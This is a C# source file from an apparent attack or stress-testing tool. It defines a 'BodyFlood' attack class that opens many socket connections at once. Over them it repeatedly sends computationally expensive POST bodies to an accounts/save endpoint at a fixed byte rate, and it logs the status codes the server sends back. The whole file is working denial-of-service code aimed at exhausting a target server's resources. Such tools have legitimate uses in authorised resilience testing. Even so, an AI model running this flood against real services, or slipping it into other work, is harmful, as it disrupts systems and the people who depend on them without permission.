using System.Diagnostics;
using System.Net.Sockets;
using System.Text;

namespace Attacks;

/// <summary>Sends one expensive body after the other, all connections together at a fixed rate, and waits for each answer.</summary>
internal sealed class BodyFlood(string name, string description, Body body) : Attack(name, 100, description)
{
    private const double BytesPerSecond = 800_000;

    private byte[] _request = [];
    private long _interval;
    private long _nextSlot;

    protected override Task PrepareAsync(Target target, CancellationToken ct)
    {
        _request = Encoding.UTF8.GetBytes(
            $"POST {Api}accounts/save{body.Query} HTTP/1.1\r\nHost: {target.Server.Authority}\r\nContent-Type: {body.MediaType}\r\n"
            + $"Content-Length: {Encoding.UTF8.GetByteCount(body.Text)}\r\n\r\n{body.Text}");
        _interval = (long)(_request.Length / BytesPerSecond * Stopwatch.Frequency);
        _nextSlot = Stopwatch.GetTimestamp();
        return Task.CompletedTask;
    }

    protected override async Task UseConnectionAsync(Socket socket, CancellationToken ct)
    {
        var buffer = new byte[16 * 1024];
        while (true)
        {
            var wait = Stopwatch.GetElapsedTime(Stopwatch.GetTimestamp(), Interlocked.Add(ref _nextSlot, _interval));
            if (wait > TimeSpan.Zero)
                await Task.Delay(wait, ct);
            for (var sent = 0; sent < _request.Length;)
                sent += await socket.SendAsync(_request.AsMemory(sent), SocketFlags.None, ct);
            if (!await ReadAnswerAsync(socket, buffer, ct))
                return;
        }
    }

    /// <returns>Whether the connection may be used again.</returns>
    private async Task<bool> ReadAnswerAsync(Socket socket, byte[] buffer, CancellationToken ct)
    {
        var head = new StringBuilder();
        int headEnd;
        do
        {
            var received = await socket.ReceiveAsync(buffer, SocketFlags.None, ct);
            if (received == 0)
            {
                Answers.Add("closed");
                return false;
            }

            head.Append(Encoding.Latin1.GetString(buffer, 0, received));
        }
        while ((headEnd = head.ToString().IndexOf("\r\n\r\n", StringComparison.Ordinal)) < 0);

        var text = head.ToString();
        Answers.Add(text[9..12]);
        const string LengthHeader = "content-length: ";
        var lengthAt = text.IndexOf(LengthHeader, StringComparison.OrdinalIgnoreCase);
        if (lengthAt < 0 || text.Contains("connection: close", StringComparison.OrdinalIgnoreCase))
            return false;
        var digits = text.AsSpan(lengthAt + LengthHeader.Length);
        var left = int.Parse(digits[..digits.IndexOf('\r')], System.Globalization.CultureInfo.InvariantCulture) - (text.Length - headEnd - 4);
        while (left > 0)
        {
            var received = await socket.ReceiveAsync(buffer.AsMemory(0, Math.Min(left, buffer.Length)), SocketFlags.None, ct);
            if (received == 0)
                return false;
            left -= received;
        }

        return true;
    }
}
